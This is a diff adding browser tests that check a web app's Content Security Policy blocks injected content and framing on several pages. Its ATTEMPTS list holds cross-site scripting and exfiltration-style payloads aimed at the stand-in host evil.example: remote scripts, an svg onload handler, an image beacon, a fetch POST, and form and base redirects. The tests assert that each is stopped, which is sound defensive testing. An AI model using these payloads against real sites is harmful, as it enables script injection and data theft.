@@ -6,7 +6,94 @@ from playwright.sync_api import expect
 POLICY_BREACHES = "addEventListener('securitypolicyviolation', (e) => console.error('policy: ' + e.violatedDirective))"
 
 
-@pytest.mark.parametrize("page_name", ["join", "screen", "drive"])
+PAGES = ["join", "screen", "drive", "tablet", "summary"]
+#: Kept in the page itself, since what is tried below is meant to be complained about.
+BREACHES = """
+  window.breaches = [];
+  addEventListener("securitypolicyviolation", (event) => breaches.push(event.effectiveDirective));
+"""
+HEARD = "addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), {once: true});"
+#: What somebody who got markup into a page would try, and the rule of the policy that stops it.
+ATTEMPTS = {
+    "script-src-elem": [
+        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
+        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+        "document.body.append(Object.assign(document.createElement('script'), {src: 'data:text/javascript,ran=true'}))",
+    ],
+    "script-src-attr": ["document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.ran = true\"></svg>')"],
+    "style-src-elem": ["document.body.insertAdjacentHTML('beforeend', '<style>main { display: none }</style>')"],
+    "style-src-attr": ["document.body.insertAdjacentHTML('beforeend', '<p style=\"position: fixed\">x</p>')"],
+    "img-src": ["new Image().src = 'https://evil.example/?stolen'"],
+    "connect-src": ["fetch('https://evil.example/', {method: 'POST', mode: 'no-cors'}).catch(() => 0)"],
+    "frame-src": ["document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/psychsafety/join/\"></iframe>')"],
+    "form-action": [
+        "document.body.appendChild(Object.assign(document.createElement('form'), {action: 'https://evil.example/'})).submit()"
+    ],
+    "base-uri": ["document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')"],
+}
+
+
+@pytest.fixture
+def strict(browser, site):
+    """A page of ours in a browser of its own; `addresses` is all that it got an answer from."""
+    context = browser.new_context()
+    context.add_init_script(BREACHES)
+    page = context.new_page()
+    page.addresses = []
+    page.on("requestfinished", lambda request: page.addresses.append(request.url))
+
+    def opened(name: str):
+        page.goto(f"{site.url}/psychsafety/{name}/")
+        expect(page.locator("main")).not_to_be_empty()
+        return page
+
+    yield opened
+    context.close()
+
+
+@pytest.mark.parametrize("page_name", PAGES)
+def test_each_page_keeps_to_its_own_policy(strict, site, page_name):
+    page = strict(page_name)
+    page.wait_for_load_state("networkidle")
+    assert page.evaluate("breaches") == []
+    files = [one for one in page.addresses if one.endswith((".js", ".css", ".svg"))]
+    assert len(files) >= 2
+    assert all(
+        one.startswith((f"{site.url}/static/psychsafety_xblock/", f"{site.url}/psychsafety/api/")) for one in files
+    )
+
+
+@pytest.mark.parametrize("page_name", PAGES)
+def test_what_is_injected_into_a_page_does_not_run(strict, site, page_name):
+    page = strict(page_name)
+    for rule, attempts in ATTEMPTS.items():
+        for attempt in attempts:
+            stopped = page.evaluate(f"() => new Promise((done) => {{ {HEARD} {attempt}; }})")
+            assert stopped == rule, attempt
+    assert page.evaluate("window.ran") is None
+    assert all(one.startswith(site.url) for one in page.addresses)
+
+
+@pytest.mark.parametrize("page_name", PAGES)
+def test_no_page_shows_in_a_frame_of_any_page(browser, site, page_name):
+    """Of this very site neither: nobody is led to press a button that they do not see."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{site.url}/")
+    page.evaluate(
+        """address => new Promise((done) => {
+          const frame = document.createElement("iframe");
+          frame.onload = done;
+          frame.src = address;
+          document.body.append(frame);
+        })""",
+        f"{site.url}/psychsafety/{page_name}/",
+    )
+    assert page.frames[-1].locator("#psychsafety").count() == 0
+    context.close()
+
+
+@pytest.mark.parametrize("page_name", PAGES)
 def test_the_policy_allows_nothing_inline_and_no_other_host(room, page_name):
     page = room.context("visitor").new_page()
     answer = page.goto(f"{room.url}/psychsafety/{page_name}/")
